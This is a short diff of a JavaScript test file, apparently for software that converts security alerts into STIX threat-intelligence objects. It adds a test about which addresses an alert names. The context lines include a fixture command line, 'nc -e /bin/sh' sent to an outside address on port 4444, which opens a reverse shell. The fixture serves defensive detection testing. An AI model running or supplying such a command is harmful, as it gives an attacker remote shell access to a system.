@@ -162,6 +162,13 @@ it('an alert without source address is about the user and the host', () => {
   );
 });
 
+it('a chain whose last record somebody else sent is about whom it names', () => {
+  const objects = written(alertChange({ entity: '203.0.113.7', source: { ip: '10.0.0.5' } }));
+  expect(objects.find(({ type }) => type === 'indicator')?.pattern).toBe("[ipv4-addr:value = '203.0.113.7']");
+  const addresses = objects.filter(({ type }) => type === 'ipv4-addr').map(({ value }) => value);
+  expect(addresses).toEqual(expect.arrayContaining(['203.0.113.7', '10.0.0.5']));
+});
+
 it('what a rule looked at becomes observables of their own', () => {
   const matches = Object.entries({
     'process.command_line': 'nc -e /bin/sh 198.51.100.9 4444',
